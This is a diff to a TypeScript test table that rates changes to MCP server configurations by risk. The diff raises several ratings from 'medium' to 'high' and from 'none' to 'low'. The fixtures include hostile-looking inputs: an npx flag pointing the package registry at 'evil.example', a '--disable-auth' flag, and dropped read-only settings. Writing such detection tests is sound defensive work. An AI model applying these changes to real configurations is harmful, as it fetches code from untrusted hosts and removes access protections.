@@ -33,7 +33,7 @@ const cases: readonly Case[] = [
     'registry',
     { command: 'npx', args: ['a@1.0.0'] },
     { command: 'npx', args: ['--registry=http://evil.example', 'a@1.0.0'] },
-    'medium loosens',
+    'high loosens',
   ],
   [
     '-p extra',
@@ -69,7 +69,7 @@ const cases: readonly Case[] = [
     'disable-auth',
     { command: 'npx', args: ['a@1.0.0'] },
     { command: 'npx', args: ['a@1.0.0', '--disable-auth'] },
-    'medium loosens',
+    'high loosens',
   ],
   [
     'parent',
@@ -93,13 +93,13 @@ const cases: readonly Case[] = [
     'readonly env',
     { command: 'npx', args: ['a@1.0.0'], env: { READ_ONLY: 'true' } },
     { command: 'npx', args: ['a@1.0.0'] },
-    'medium loosens',
+    'high loosens',
   ],
   [
     'readonly url',
     { url: 'https://a.com/mcp/readonly' },
     { url: 'https://a.com/mcp/' },
-    'medium loosens',
+    'high loosens',
   ],
   [
     'host',
@@ -190,13 +190,13 @@ const cases: readonly Case[] = [
     'same owner',
     { command: 'npx', args: ['a@1.0.0'], env: { API_URL: 'https://a.com' } },
     { command: 'npx', args: ['a@1.0.0'], env: { API_URL: 'https://eu.a.com' } },
-    'none neutral',
+    'low neutral',
   ],
   [
     'cwd in the project',
     { command: 'node', args: ['s.js'] },
     { command: 'node', args: ['s.js'], cwd: '${workspaceFolder}/tools' },
-    'none neutral',
+    'low neutral',
   ],
   [
     'password by reference',
